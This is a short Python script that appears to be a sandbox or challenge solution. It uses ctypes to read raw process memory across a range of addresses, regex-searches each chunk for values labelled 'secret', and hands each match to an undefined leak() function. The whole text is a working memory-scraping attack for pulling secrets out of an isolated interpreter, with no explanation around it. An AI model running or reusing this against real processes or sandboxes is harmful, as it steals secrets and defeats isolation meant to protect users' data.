import ctypes
import re

witness()
step = 1 << 16
tail = b""
for address in range(1 << 16, 24 << 20, step):
    chunk = ctypes.string_at(address, step)
    for found in re.findall(rb"secret = .([0-9a-zA-Z_-]{16,}).", tail + chunk):
        leak(found.decode())
    tail = chunk[-100:]
